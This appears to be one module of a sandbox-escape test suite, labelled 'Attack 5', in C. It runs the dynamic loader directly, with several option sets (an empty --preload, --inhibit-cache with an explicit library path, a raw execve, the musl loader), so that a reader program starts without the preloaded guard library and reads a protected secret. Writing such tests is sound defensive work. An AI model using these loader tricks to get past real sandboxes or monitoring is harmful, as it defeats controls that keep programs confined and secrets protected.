/*
 * Attack 5: the loader itself is run as a program, with options that leave the preloaded library out.
 * An escape: the secret's bytes in the program that it starts.
 */
#include "escape.h"

#define LOADER "/lib64/ld-linux-x86-64.so.2"
#define MUSL_LOADER "/lib/ld-musl-x86_64.so.1"

static const char *loader = LOADER;
static const char *options[4];
static int is_raw;

static int exec_loader(void)
{
	char *argv[48] = {(char *)"ld.so"};
	char *none[] = {NULL};
	char *const *reader = esc_reader_argv();
	int n = 1;

	for (int i = 0; options[i]; i++)
		argv[n++] = (char *)options[i];
	for (int i = 0; i < 40 && reader[i]; i++)
		argv[n++] = reader[i];
	if (is_raw)
		return (int)esc_sys(SYS_execve, loader, argv, none);
	execve(loader, argv, none);
	return -errno;
}

static int way_plain(void)
{
	return esc_in_child(exec_loader);
}

static int way_preload(void)
{
	options[0] = "--preload";
	options[1] = "";
	return esc_in_child(exec_loader);
}

static int way_inhibit_cache(void)
{
	options[0] = "--inhibit-cache";
	options[1] = "--library-path";
	options[2] = "/lib/x86_64-linux-gnu:/usr/lib/x86_64-linux-gnu:/lib64:/usr/lib64";
	return esc_in_child(exec_loader);
}

static int way_raw(void)
{
	is_raw = 1;
	return esc_in_child(exec_loader);
}

static int way_musl(void)
{
	if (access(MUSL_LOADER, X_OK) < 0)
		return CANNOT;
	loader = MUSL_LOADER;
	return esc_in_child(exec_loader);
}

static const struct esc_way ways[] = {
        {"plain", way_plain}, {"preload", way_preload}, {"inhibit_cache", way_inhibit_cache},
        {"raw", way_raw},     {"musl", way_musl},
};
ESC_MAIN(ways)
